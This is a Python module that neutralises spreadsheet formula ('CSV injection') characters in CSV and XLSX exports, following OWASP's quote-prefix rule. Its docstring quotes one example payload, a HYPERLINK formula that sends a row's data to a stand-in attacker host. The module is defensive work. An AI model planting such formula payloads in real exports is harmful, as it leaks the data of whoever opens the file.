"""CSV and XLSX exports: the one place cells are made safe to open in a spreadsheet.

A text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a
formula by Excel, LibreOffice and Google Sheets ("CSV injection": a member's first name
``=HYPERLINK("http://evil.example/?leak="&D2,"Click")`` would leak the row to whoever opens the
manager's export). OWASP's rule: prefix such a cell with a single quote, so it shows as the text it
is. Numbers (``int``, ``Decimal``) are left as numbers — a negative amount is data, not a formula.
XLSX cells holding text are also written with the string type, never as a formula.

Every CSV/XLSX export goes through ``csv_writer``, ``csv_dict_writer`` or ``xlsx_append``.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """The cell as text a spreadsheet will not evaluate; non-text values unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [neutralise(v) for v in row]


class _SafeWriter:
    """``csv.writer`` whose rows are neutralised on the way out."""

    def __init__(self, fh, **kwargs):
        self._writer = csv.writer(fh, **kwargs)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]):
        for row in rows:
            self.writerow(row)


class _SafeDictWriter(csv.DictWriter):
    """``csv.DictWriter`` whose values are neutralised (the header is ours, not user data)."""

    def writerow(self, rowdict: Mapping[str, Any]):
        return super().writerow({k: neutralise(v) for k, v in rowdict.items()})

    def writerows(self, rowdicts):
        for row in rowdicts:
            self.writerow(row)


def csv_writer(fh, **kwargs) -> _SafeWriter:
    return _SafeWriter(fh, **kwargs)


def csv_dict_writer(fh, fieldnames, **kwargs) -> _SafeDictWriter:
    return _SafeDictWriter(fh, fieldnames=fieldnames, **kwargs)


def xlsx_append(ws, row: Iterable[Any]) -> None:
    """Append ``row`` to an openpyxl worksheet: text neutralised and typed as a string."""
    ws.append(safe_row(row))
    for cell in ws[ws.max_row]:
        if isinstance(cell.value, str):
            # openpyxl types any text starting with "=" as a formula; a cell of type "s" never is.
            cell.data_type = "s"
